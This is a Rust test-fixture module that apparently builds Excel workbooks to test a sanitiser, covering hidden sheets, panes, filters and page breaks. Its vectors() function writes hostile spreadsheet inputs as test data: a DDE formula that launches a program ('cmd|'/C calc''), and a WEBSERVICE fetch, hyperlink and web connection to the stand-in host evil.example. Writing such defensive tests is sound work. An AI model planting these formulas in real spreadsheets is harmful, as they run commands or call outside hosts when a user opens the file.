//! Workbooks: hidden sheets, rows and columns, panes, filters, groups, page breaks, and one that leads out.

use super::super::{Draft, line};
use super::Book;

pub(super) fn drafts() -> Vec<Draft> {
    vec![hidden(), panes(), vectors()]
}

fn hidden() -> Draft {
    let mut book = Book::new("hidden");
    book.sheet("見える").row(1, "").text("A1", "表").formula("B1", "隠し!A1", "str", "秘①");
    for (name, state) in [("隠し", "hidden"), ("もっと隠し", "veryHidden")] {
        book.sheet(name).row(1, "").text("A1", "秘①");
        book.at_hand().into_iter().for_each(|sheet| sheet.state = format!(" state=\"{state}\""));
        book.draft.expected.stays.retain(|fact| *fact != format!("sheet\t{name}\tvisible"));
    }
    book.draft.fact(["sheet", "隠し", "hidden"]);
    // What no menu shows is shown.
    book.draft.expected.goes.push(line(["sheet", "もっと隠し", "veryHidden"]));
    book.draft.expected.comes.push(line(["sheet", "もっと隠し", "visible"]));
    book.done()
}

fn panes() -> Draft {
    let mut book = Book::new("panes");
    book.sheet("固定");
    book.before(
        "<sheetPr><tabColor rgb=\"FFFF0000\"/><outlinePr summaryBelow=\"0\"/><pageSetUpPr fitToPage=\"1\"/>\
        </sheetPr><dimension ref=\"A1:H30\"/><sheetViews><sheetView rightToLeft=\"0\" workbookViewId=\"0\">\
        <pane xSplit=\"1\" ySplit=\"2\" topLeftCell=\"B3\" activePane=\"bottomRight\" state=\"frozen\"/>\
        <selection pane=\"bottomRight\" activeCell=\"C5\" sqref=\"C5\"/></sheetView></sheetViews>\
        <sheetFormatPr defaultRowHeight=\"13.5\" outlineLevelRow=\"1\"/><cols>\
        <col min=\"1\" max=\"1\" width=\"20.5\" customWidth=\"1\"/>\
        <col min=\"3\" max=\"4\" width=\"9\" hidden=\"1\"/>\
        <col min=\"5\" max=\"6\" width=\"9\" outlineLevel=\"1\" collapsed=\"1\"/></cols>",
    );
    book.told("pane", "frozen", &["1", "2", "B3"]).told("hidden columns", "3-4", &[]);
    for row in 1..=30u32 {
        let attributes = if row == 5 {
            " hidden=\"1\""
        } else if row > 20 {
            " outlineLevel=\"1\""
        } else {
            ""
        };
        book.row(row, attributes).text(&format!("A{row}"), &format!("{row}行目　髙﨑"));
    }
    book.told("hidden row", "5", &[]);
    book.behind(
        "<autoFilter ref=\"A2:B30\"><filterColumn colId=\"0\"><customFilters and=\"1\">\
        <customFilter operator=\"notEqual\" val=\"髙*\"/></customFilters></filterColumn></autoFilter>",
    );
    book.told("filter", "A2:B30", &["髙*"]);
    book.behind(
        "<pageSetup paperSize=\"8\" fitToHeight=\"0\" orientation=\"landscape\"/>\
        <rowBreaks count=\"1\" manualBreakCount=\"1\"><brk id=\"15\" max=\"16383\" man=\"1\"/></rowBreaks>\
        <colBreaks count=\"1\" manualBreakCount=\"1\"><brk id=\"2\" max=\"1048575\" man=\"1\"/></colBreaks>",
    );
    book.told("page", "landscape", &["8"]).told("break", "row 15", &[]).told("break", "col 2", &[]);
    book.name("_xlnm._FilterDatabase", Some(0), "固定!$A$2:$B$30");
    book.done()
}

/// A workbook that leads out: a formula that runs a program, one that fetches, a link, a connection.
fn vectors() -> Draft {
    let mut book = Book::new("vectors");
    book.sheet("集計")
        .row(1, "")
        .text("A1", "髙﨑①")
        .formula("B1", "SUM(C1:C2)", "n", "3")
        .number("C1", "1", "")
        .number("C2", "2", "");
    for (row, (formula, value)) in (2u32..).zip([
        ("cmd|'/C calc'!A0", "残る値"),
        ("WEBSERVICE(\"https://evil.example/\")", "取得した値"),
        ("[1]Sheet1!A1", "外の値"),
        ("HYPERLINK(\"https://evil.example/\",\"押す\")", "押す"),
    ]) {
        let place = format!("A{row}");
        book.row(row, "").formula(&place, formula, "str", value);
        let fact = line(["formula", &format!("集計!{place}"), formula]);
        book.draft.expected.stays.retain(|known| *known != fact);
        book.draft.expected.goes.push(fact);
    }
    let id = book.draft.package.lead("xl/worksheets/sheet1.xml", "hyperlink", "https://evil.example/");
    book.behind(&format!("<hyperlinks><hyperlink ref=\"A1\" r:id=\"{id}\"/></hyperlinks>"));
    book.draft.expected.goes.push(line(["link", "集計!A1", "https://evil.example/"]));
    book.draft.package.xml(
        "xl/connections.xml",
        "application/vnd.openxmlformats-officedocument.spreadsheetml.connections+xml",
        "<connections xmlns=\"http://schemas.openxmlformats.org/spreadsheetml/2006/main\">\
        <connection id=\"1\" name=\"a\" type=\"4\" refreshedVersion=\"3\"><webPr url=\"https://evil.example/\"/>\
        </connection></connections>",
    );
    book.draft.package.relate("xl/workbook.xml", "connections", "connections.xml");
    book.done()
}
